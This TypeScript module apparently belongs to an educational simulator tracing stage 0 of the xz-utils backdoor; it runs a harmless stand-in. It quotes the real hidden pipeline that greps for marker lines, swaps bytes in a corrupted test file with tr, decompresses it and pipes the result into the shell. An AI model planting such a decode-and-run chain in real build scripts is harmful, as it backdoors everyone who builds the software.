/**
 * Stage 0, planted by the doctored build-to-host.m4 and run by config.status at the end of
 * ./configure:  sed "r\n" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d | $SHELL
 * i.e.  cat tests/files/bad-3-corrupt_lzma2.xz | tr "\t \-_" " \t_\-" | xz -d | sh
 */
import { BAD_XZ, CARRIER_DIR, GOOD_LARGE, MARKER_GREP, STAGE0_SWAP } from './constants.ts';
import type { RunContext } from './context.ts';
import { bytesLabel, firstLine } from './format.ts';
import type { TraceRecorder } from './trace.ts';
import { findMarkerLines } from './transforms/byte-search.ts';
import { changedPositions, translate, trTable } from './transforms/tr.ts';
import { decodeXz, type XzStreamReport } from './transforms/xz.ts';

const BAD_PATH = `${CARRIER_DIR}/${BAD_XZ}`;

/** Where a stream sits in the file; one that failed has no end to show, only its start. */
function streamBytes(stream: XzStreamReport): string {
  return stream.error
    ? `from byte ${stream.offset}`
    : `bytes ${stream.offset}–${stream.offset + stream.length - 1}`;
}

/** Returns the stage-1 script bytes, or null when the chain ends here. */
export function runStage0(rec: TraceRecorder, ctx: RunContext): Uint8Array | null {
  const carriers = ctx.carriers;
  const hits = carriers ? findMarkerLines(carriers.badXz) : [];
  const goodHits = carriers ? findMarkerLines(carriers.goodLarge) : [];
  const found = hits.length > 0 || goodHits.length > 0;
  rec.gate(
    {
      id: 'stage0-grep',
      phase: 'stage0',
      title: 'Find the carrier file by its marker lines',
      command: `gl_am_configmake=\`${MARKER_GREP} 2>/dev/null\``,
      before: found
        ? [
            `./${BAD_PATH}`,
            ...hits.map((h) => `  (line ending “${h.marker}” at byte ${h.offset})`),
            `gl_localedir_prefix=xz   # the file name's suffix after the last dot`,
          ]
        : ['(no file matches)'],
      explain:
        'This grep runs in the body of configure, long before the end, and only stores its result; the decode-and-run waits for config.status. grep -a reads binary files as text and -r searches the whole source tree for a line ending in ####, five letters, ####. Only our three-stream test file has such lines; the suffix of its name, "xz", becomes the decompressor.',
      touches: carriers
        ? [
            { tree: 'build', path: BAD_PATH, change: 'read', bytes: carriers.badXz.length },
            {
              tree: 'build',
              path: `${CARRIER_DIR}/${GOOD_LARGE}`,
              change: 'read',
              bytes: carriers.goodLarge.length,
            },
          ]
        : [],
      bytesIn: carriers ? carriers.badXz.length + carriers.goodLarge.length : 0,
      sources: ['cox', 'gynvael'],
    },
    found
      ? { passed: true, reason: 'one file has the marker lines' }
      : { passed: false, reason: 'no file in the tree has a marker line' },
    ['gl_am_configmake is empty, so the command string is empty and nothing runs'],
  );
  if (!carriers || !found) return null;

  const swapped = translate(carriers.badXz, trTable(STAGE0_SWAP.set1, STAGE0_SWAP.set2));
  const changed = changedPositions(carriers.badXz, swapped);
  rec.add({
    id: 'stage0-tr',
    phase: 'stage0',
    title: 'config.status runs it: swap TAB↔SPACE and -↔_',
    command: `sed "r\\n" ./${BAD_PATH} | tr "\\t \\-_" " \\t_\\-"`,
    output: [
      `${bytesLabel(carriers.badXz.length)} in, ${bytesLabel(swapped.length)} out; ${changed.length} bytes changed`,
    ],
    explain:
      'From here on this is the build-to-host command config.status runs at the very end of configure. `sed "r\\n"` is a disguised cat. tr swaps four byte values. As shipped, the file looks like a deliberately broken test file; after the swap its middle stream is valid again.',
    touches: [{ tree: 'build', path: BAD_PATH, change: 'read', bytes: carriers.badXz.length }],
    bytesIn: carriers.badXz.length,
    bytesOut: swapped.length,
    views: [
      { label: `${BAD_XZ} as shipped`, bytes: carriers.badXz, show: 'hex', highlight: changed },
      { label: 'after tr', bytes: swapped, show: 'hex', highlight: changed },
    ],
    sources: ['gynvael', 'cox'],
  });

  const decoded = decodeXz(swapped);
  const ok = decoded.output.length > 0;
  rec.gate(
    {
      id: 'stage0-xz',
      phase: 'stage0',
      title: 'Decompress the three xz streams into stage 1',
      command: `… | xz -d 2>/dev/null | $SHELL`,
      before: decoded.streams.map(
        (s, n) =>
          `stream ${n + 1}: ${streamBytes(s)} → ${bytesLabel(s.outputLength)}${s.error ? ` (error: ${s.error})` : ''}`,
      ),
      explain:
        'Stream 1 holds the ####Hello#### line, stream 2 the script, stream 3 the ####World#### line; xz writes them out one after another. Errors go to /dev/null. The output is piped straight into the shell. (Ours only prints descriptions.)',
      bytesIn: swapped.length,
      bytesOut: decoded.output.length,
      views: [{ label: 'stage 1 (our harmless stand-in)', bytes: decoded.output, show: 'text' }],
      sources: ['cox', 'gynvael'],
    },
    ok
      ? {
          passed: true,
          reason: `${bytesLabel(decoded.output.length)} of shell script, starting “${firstLine(decoded.output)}”`,
        }
      : {
          passed: false,
          reason: `xz produced nothing${decoded.error ? ` (${decoded.error})` : ''}`,
        },
    ['the shell receives an empty script'],
  );
  return ok ? decoded.output : null;
}
